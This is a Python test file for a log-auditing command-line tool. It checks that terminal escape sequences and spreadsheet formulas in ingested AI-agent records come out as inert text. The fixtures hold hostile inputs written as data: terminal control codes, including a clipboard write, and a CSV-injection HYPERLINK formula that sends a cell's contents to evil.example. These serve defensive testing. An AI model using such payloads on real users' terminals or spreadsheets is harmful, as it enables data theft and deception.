"""Data never reaches the terminal as control codes, nor a spreadsheet as a formula.

The planted sequences are the ones a hostile tester used: a title change (OSC 0), a clipboard
write (OSC 52), a screen clear (CSI 2J), an 8-bit CSI (U+009B), a right-to-left override."""

from __future__ import annotations

import csv
import io
import json

from trace_audit.cli.main import main

EVIL = ["\x1b]0;pwned\x07", "\x1b]52;c;aGVsbG8=\x07", "\x1b[2J", "\x9b31m", "\u202eexe.txt"]
RAW = [c for e in EVIL for c in e if ord(c) < 0x20 or 0x7f <= ord(c) < 0xa0 or c == "\u202e"]
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _records() -> list[str]:
    bad = "".join(EVIL)
    turn = [
        {"record": "task", "task_id": "t1" + bad, "user_id": "u1", "conversation_id": FORMULA, "status": "success",
         "goal": "remind me " + bad, "started_at": "2026-11-20T08:00:00Z", "finished_at": "2026-11-20T08:00:05Z"},
        {"record": "step", "task_id": "t1" + bad, "seq": 1, "tool": "create_reminder" + bad, "status": "failed",
         "verified": False, "attempts": 2, "started_at": "2026-11-20T08:00:01Z", "error": "boom " + bad},
        {"record": "message", "message_id": "m1", "conversation_id": FORMULA, "user_id": "u1", "role": "assistant",
         "content": "Done, your reminder is set " + bad, "created_at": "2026-11-20T08:00:07Z",
         "task_id": "t1" + bad},
    ]
    return [json.dumps(r) for r in turn] + ["not json " + bad]


def _clean(text: str) -> None:
    assert not [c for c in text if c in RAW], repr(text[:400])


def test_no_control_codes_reach_the_terminal_and_no_formula_a_spreadsheet(tmp_path, capsys):
    db = str(tmp_path / "w.duckdb")
    src = tmp_path / "turns.jsonl"
    src.write_text("\n".join(_records()) + "\n", encoding="utf-8")
    outputs = []
    for argv in (["ingest", str(src)], ["rules", "run", "--now", "2026-12-01T00:00:00Z"], ["findings"],
                 ["findings", "--format", "jsonl"], ["explain", "t1" + "".join(EVIL), "--now", "2026-12-01T00:00:00Z"],
                 ["stats", "--errors"], ["stats"]):
        main([*argv, "--db", db])
        out, err = capsys.readouterr()
        outputs.append((argv[0], out, err))
        _clean(out)
        _clean(err)
    explain = outputs[4][1]
    assert "remind me \\u001b]0;pwned\\u0007" in explain  # shown, as text
    for line in outputs[3][1].splitlines():
        json.loads(line)  # still JSON
    assert main(["findings", "--format", "csv", "--db", db]) == 0
    cells = [c for row in csv.reader(io.StringIO(capsys.readouterr().out)) for c in row]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + FORMULA in cells


def test_a_file_name_with_control_codes_is_shown_as_text(tmp_path, capsys):
    src = tmp_path / ("naive\x1b]0;pwned\x07.jsonl")
    src.write_text(json.dumps({"record": "task", "task_id": "n1", "user_id": "u", "status": "success",
                               "started_at": "2026-11-20T08:00:00"}) + "\n")  # a naive time: stderr's note
    assert main(["ingest", str(src), "--db", str(tmp_path / "w.duckdb"), "--no-progress"]) == 0
    out, err = capsys.readouterr()
    _clean(out)
    _clean(err)
    assert "naive\\u001b]0;pwned\\u0007.jsonl" in out and "\\u001b" in err


def test_a_finding_is_one_line_of_the_table(tmp_path, capsys):
    """A reply of several lines (lists, paragraphs) must not break the table into fragments."""
    db = str(tmp_path / "w.duckdb")
    src = tmp_path / "turns.jsonl"
    rows = [
        {"record": "task", "task_id": "t2", "user_id": "u1", "conversation_id": "c2", "status": "failed",
         "goal": "remind me", "started_at": "2026-11-20T08:00:00Z", "finished_at": "2026-11-20T08:00:05Z"},
        {"record": "step", "task_id": "t2", "seq": 1, "tool": "create_reminder", "status": "failed",
         "verified": False, "attempts": 1, "started_at": "2026-11-20T08:00:01Z", "error": "timeout"},
        {"record": "message", "message_id": "m2", "conversation_id": "c2", "user_id": "u1", "role": "assistant",
         "content": "Done!\n\n- reminder set for 8 PM\r\n- see you\ttomorrow", "created_at": "2026-11-20T08:00:07Z",
         "task_id": "t2"},
    ]
    src.write_text("\n".join(json.dumps(r) for r in rows) + "\n", encoding="utf-8")
    main(["ingest", str(src), "--db", db])
    main(["rules", "run", "--now", "2026-12-01T00:00:00Z", "--db", db])
    capsys.readouterr()
    assert main(["findings", "--rule", "said_but_not_done", "--db", db]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 1 and "Done! \u21b5  \u21b5 - reminder set for 8 PM \u21b5 - see you tomorrow" in lines[0]
